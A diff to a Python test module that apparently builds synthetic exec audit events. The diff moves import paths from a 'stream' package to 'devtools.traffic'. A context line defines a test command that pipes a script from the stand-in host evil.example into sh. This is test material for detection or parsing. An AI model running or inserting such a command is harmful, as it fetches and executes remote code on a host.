@@ -11,15 +11,15 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from examples import make_sample
-from stream.synthetic import (
+from devtools.traffic.exec_uris import Client
+from devtools.traffic.synthetic import (
     CLIENT_PROFILES,
     as_event_list,
     exec_audit_events,
     exec_request_uri,
     routine_audit_event,
 )
-from stream.synthetic_uri import Client
+from examples import make_sample
 
 START = datetime(2025, 1, 15, 10, 0, tzinfo=UTC)
 CMD = ("sh", "-c", "curl https://evil.example/x.sh | sh & echo '$HOME'/*!~(x)")
